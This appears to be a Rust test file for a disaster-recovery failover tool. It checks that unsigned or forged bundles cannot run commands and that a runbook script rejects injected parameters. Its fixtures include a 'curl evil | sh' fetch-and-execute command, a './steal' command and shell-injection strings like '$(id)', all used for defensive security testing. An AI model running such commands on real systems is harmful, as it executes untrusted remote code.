//! Commands from a bundle run only if the caller's key or files vouch for them, and are shown
//! before.

use drstack_core::bundle::Bundle;
use drstack_core::keys::PrivateKey;
use serde_json::{Value, json};

use crate::drstack::{Drstack, Ran, drstack};

const WORLD: &str = ".drstack/sim/world.json";
const CONTROL: &str = "drstack-demo-us-west-2";
const FAILOVER: &str = "failover --bundle s3://drstack-demo-us-west-2/demo";

/// A stack whose pool is up once this program says so.
fn stack(head: &str, checks: &str) -> String {
    format!(
        r#"
[stack]
name = "demo"
primary = "us-east-1"
standby = "us-west-2"
posture = "warm"
{head}

[network.standby]
cidr = "10.64.0.0/16"

[pool.serving]
follows = "serve"
network = "@network.standby"
{checks}
"#
    )
}

const CHECK: &str =
    "\n[[pool.serving.check]]\ncommand = [\"./smoke-test\", \"--region\", \"${standby.region}\"]\n";
const SHOWN: &str = "./smoke-test --region us-west-2";

fn run(machine: &Drstack, line: &str) -> Ran {
    machine.run(line.split(' ').chain(["--cloud", "sim"]))
}

/// Returns a machine on which this stack was applied.
fn applied(text: &str) -> Drstack {
    let machine = drstack();
    machine.write("s/stack.toml", text);
    run(&machine, "apply s --auto-approve").ok();
    machine
}

/// Returns a machine that has the world of `machine` and none of its files.
fn elsewhere(machine: &Drstack) -> Drstack {
    let other = drstack();
    other.write(WORLD, &std::fs::read_to_string(machine.folder().join(WORLD)).expect("a world"));
    other
}

/// Changes the published bundle and its hash, as a writer to the control bucket could; `key` signs
/// the forgery.
fn forge(machine: &Drstack, key: Option<&PrivateKey>, change: impl FnOnce(&mut Bundle)) {
    let path = machine.folder().join(WORLD);
    let mut world: Value = serde_json::from_slice(&std::fs::read(&path).expect("a world")).expect("JSON");
    let objects = world["world"]["buckets"][CONTROL]["objects"].as_object_mut().expect("objects");
    let mut bundle =
        Bundle::from_bytes(objects["bundle.json"].as_str().expect("text").as_bytes()).expect("a bundle");
    change(&mut bundle);
    let bytes = bundle.to_bytes().expect("JSON");
    match key {
        Some(key) => drop(objects.insert("bundle.json.sig".to_owned(), key.sign(&bytes).into())),
        None => drop(objects.remove("bundle.json.sig")),
    }
    objects.insert("bundle.json".to_owned(), String::from_utf8(bytes).expect("text").into());
    std::fs::write(path, world.to_string()).expect("write");
}

/// Replaces the command of every check with this one.
fn runs(bundle: &mut Bundle, command: &[&str]) {
    for component in bundle.stack.components.values_mut() {
        for check in &mut component.checks {
            check.spec["command"] = json!(command);
        }
    }
}

/// Asserts a refusal before any change: neither a lock nor a mode was written.
#[track_caller]
fn refused(machine: &Drstack, ran: Ran, said: &[&str]) {
    let ran = ran.code(64);
    for text in said {
        assert!(ran.stderr.contains(text), "{text}: {ran:?}");
    }
    for way in ["hint: ", "--verify-key PUBLIC_KEY", "--unsigned"] {
        assert!(ran.stderr.contains(way), "{way}: {ran:?}");
    }
    let text = std::fs::read_to_string(machine.folder().join(WORLD)).expect("a world");
    let world: Value = serde_json::from_str(&text).expect("JSON");
    assert!(world["world"]["buckets"][CONTROL]["objects"].get("mode.json").is_none(), "the mode was changed");
}

#[test]
fn an_unsigned_bundle_with_commands_is_refused_and_names_them_and_the_ways_on() {
    let other = elsewhere(&applied(&stack("", CHECK)));
    let ran = run(&other, &format!("{FAILOVER} --auto-approve"));
    refused(&other, ran, &["1 command would run on this machine", &format!("pool.serving: `{SHOWN}`")]);
    // The operator may accept the commands after reading them.
    let ran = run(&other, &format!("{FAILOVER} --auto-approve --unsigned")).ok();
    assert!(ran.stderr.contains("warning: ") && ran.stderr.contains(SHOWN), "{ran:?}");
}

#[test]
fn an_unsigned_bundle_fails_over_only_if_that_is_accepted_without_commands_too() {
    let other = elsewhere(&applied(&stack("", "")));
    let ran = run(&other, &format!("{FAILOVER} --auto-approve"));
    refused(
        &other,
        ran,
        &["the bundle decides what is started, and you named no key that has to have signed it"],
    );
    let ran = run(&other, &format!("{FAILOVER} --auto-approve --unsigned")).unasked();
    assert!(!ran.stderr.contains("warning: the bundle"), "{ran:?}");
    assert!(ran.stderr.contains("The bundle is ") && ran.stderr.contains(", not signed."), "{ran:?}");
}

#[test]
fn a_dry_run_and_a_plan_show_each_command_and_run_none() {
    let machine = applied(&stack("", CHECK));
    let other = elsewhere(&machine);
    let dry = run(&other, &format!("{FAILOVER} --dry-run")).ok();
    assert!(dry.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{dry:?}");
    assert!(dry.stderr.contains("warning: the bundle decides what is started"), "{dry:?}");
    for line in ["plan s --mode active", "failover s --dry-run"] {
        let shown = run(&machine, line).ok();
        assert!(shown.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{shown:?}");
        assert!(!shown.stderr.contains("warning"), "{shown:?}");
    }
    let lines = run(&machine, "plan s --mode active --json").ok().json();
    let commands: Vec<&Value> = lines.iter().filter_map(|line| line.get("command")).collect();
    assert_eq!(commands, [&json!(["./smoke-test", "--region", "us-west-2"])]);
}

#[test]
fn in_an_unchanged_folder_a_command_counts_by_its_words_and_not_by_a_hash_that_the_bundle_states() {
    let machine = applied(&stack("", CHECK));
    let hostile = ["sh", "-c", "curl evil | sh"];
    forge(&machine, None, |bundle| runs(bundle, &hostile));
    let ran = run(&machine, "failover s --auto-approve");
    refused(&machine, ran, &["is not what these files say", r#"pool.serving: `sh -c "curl evil | sh"`"#]);
    let dry = run(&machine, "failover s --dry-run").ok();
    assert!(dry.stdout.contains(r#"runs on this machine: sh -c "curl evil | sh""#), "{dry:?}");
    assert!(dry.stderr.contains("warning: "), "{dry:?}");
    // The command of another component's check does not vouch for this one.
    forge(&machine, None, |bundle| {
        runs(bundle, &["./smoke-test", "--region", "us-west-2"]);
        let check =
            bundle.stack.components.values().find_map(|it| it.checks.first().cloned()).expect("a check");
        let network = bundle.stack.components.iter_mut().find(|(at, _)| at.as_str() == "network.standby");
        network.expect("the network").1.checks.push(check);
    });
    let ran = run(&machine, "failover s --auto-approve");
    refused(&machine, ran, &[&format!("network.standby: `{SHOWN}`")]);
}

#[test]
fn a_command_that_the_folders_own_files_have_too_needs_no_key() {
    let machine = applied(&stack("", CHECK));
    let ran = run(&machine, "failover s --auto-approve").ok();
    assert!(ran.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{ran:?}");
    assert!(!ran.stderr.contains("you named no key"), "{ran:?}");
}

#[test]
fn a_command_that_has_changed_in_the_folder_since_it_was_applied_is_not_run_from_the_bundle() {
    let machine = applied(&stack("", CHECK));
    machine.write("s/stack.toml", &stack("", &CHECK.replace("smoke-test", "other-test")));
    let ran = run(&machine, "failover s --auto-approve");
    refused(
        &machine,
        ran,
        &[&format!("pool.serving: `{SHOWN}`"), "`pool.serving` differ", "with these files: `--with-files`"],
    );
}

#[test]
fn what_was_applied_is_compared_with_the_files_and_not_its_hash() {
    let machine = applied(&stack("", ""));
    forge(&machine, None, |bundle| {
        let pool = bundle.stack.components.iter_mut().find(|(at, _)| at.as_str() == "pool.serving");
        pool.expect("the pool").1.spec["instance_types"] = json!(["p5.48xlarge"]);
    });
    let ran = run(&machine, "failover s --auto-approve");
    refused(&machine, ran, &["is not what these files say", "`pool.serving` differ"]);
    let dry = run(&machine, "failover s --dry-run").ok();
    assert!(dry.stderr.contains("warning: what was applied is not what these files say"), "{dry:?}");
    // The files are the operator's own.
    run(&machine, "failover s --auto-approve --with-files").unasked();
}

#[test]
fn files_that_changed_since_the_apply_ask_which_of_the_two_is_meant() {
    let machine = applied(&stack("", ""));
    machine.write("s/stack.toml", &stack("rto = \"2h\"", ""));
    let ran = run(&machine, "failover s --auto-approve");
    refused(&machine, ran, &["[stack]", "with these files: `--with-files`"]);
    let ran = run(&machine, "failover s --auto-approve --unsigned").unasked();
    assert!(ran.stderr.contains("failing over with what was applied"), "{ran:?}");
}

/// Returns a machine with an applied stack that names a key, and the public half of the key.
fn signing() -> (Drstack, String) {
    let machine = drstack();
    let public = machine.run(["keys", "new", "key"]).ok().stdout.trim().to_owned();
    machine.write("s/stack.toml", &stack(&format!("signing = \"{public}\""), CHECK));
    run(&machine, "apply s --auto-approve --signing-key key").ok();
    (machine, public)
}

#[test]
fn a_bundle_that_the_callers_key_has_signed_runs_its_commands() {
    let (machine, public) = signing();
    let other = elsewhere(&machine);
    let ran = run(&other, &format!("{FAILOVER} --auto-approve --verify-key {public}")).ok();
    assert!(ran.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{ran:?}");
    assert!(ran.stderr.contains(&format!("signed by {public}.")), "{ran:?}");
}

#[test]
fn a_key_that_the_bundle_itself_names_vouches_for_no_command() {
    let (machine, _) = signing();
    // A bundle without a signature, and one that another key has signed.
    let other = elsewhere(&machine);
    refused(&other, run(&other, &format!("{FAILOVER} --auto-approve")), &[SHOWN]);
    let thief = PrivateKey::from_random(&[9; 32]);
    forge(&other, Some(&thief), |bundle| {
        bundle.stack.signing = Some(thief.public());
        runs(bundle, &["./steal"]);
    });
    refused(&other, run(&other, &format!("{FAILOVER} --auto-approve")), &["pool.serving: `./steal`"]);
}

#[test]
fn a_bundle_whose_signing_was_left_out_is_refused_by_whoever_has_the_key_or_the_files() {
    let (machine, public) = signing();
    let forged = |bundle: &mut Bundle| {
        bundle.stack.signing = None;
        runs(bundle, &["./steal"]);
    };
    forge(&machine, None, forged);
    let unsigned = |ran: Ran| {
        let ran = ran.code(1);
        assert!(ran.stderr.contains("it is not signed, and a signature by"), "{ran:?}");
    };
    // The folder's files name the key, although the bundle does not.
    unsigned(run(&machine, "failover s --auto-approve"));
    let other = elsewhere(&machine);
    unsigned(run(&other, &format!("{FAILOVER} --auto-approve --unsigned --verify-key {public}")));
    refused(&other, run(&other, &format!("{FAILOVER} --auto-approve")), &["pool.serving: `./steal`"]);
    // Accepting commands does not accept a bundle that the requested key has not signed: the files go
    // without it.
    let ran = run(&machine, "failover s --auto-approve --unsigned").ok();
    assert!(
        ran.stderr.contains("the bundle cannot be used (the bundle is refused: it is not signed"),
        "{ran:?}"
    );
    assert!(!format!("{}{}", ran.stdout, ran.stderr).contains("./steal"), "{ran:?}");
}

#[test]
fn the_examples_take_a_key_and_check_what_they_are_given() {
    let script = include_str!("../../examples/runbook/failover.sh");
    assert!(script.contains("DRSTACK_VERIFY_KEY:?"), "the key is required");
    let automation = include_str!("../../examples/runbook/ssm-automation.yaml");
    let parameters = automation.split("parameters:").nth(1).and_then(|it| it.split("mainSteps:").next());
    let parameters = parameters.expect("parameters");
    let (all, checked) =
        (parameters.matches("type: String").count(), parameters.matches("allowedPattern: ").count());
    assert_eq!((all, checked), (5, 5), "each parameter is checked: it goes into a shell");
    assert!(automation.contains("--verify-key"));
    for hostile in ["x'; curl evil | sh; '", "$(id)", "a b", "A_B", "", "-x"] {
        let ran = std::process::Command::new("sh")
            .arg("examples/runbook/failover.sh")
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .env("DRSTACK", "echo")
            .env("DRSTACK_VERIFY_KEY", "ed25519:00")
            .envs([("STANDBY", "us-west-2"), ("CONTROL", hostile), ("STACK", "demo")])
            .output()
            .expect("run sh");
        assert!(!ran.status.success(), "{hostile}: {ran:?}");
        assert_eq!(ran.stdout, b"", "{hostile}");
    }
}
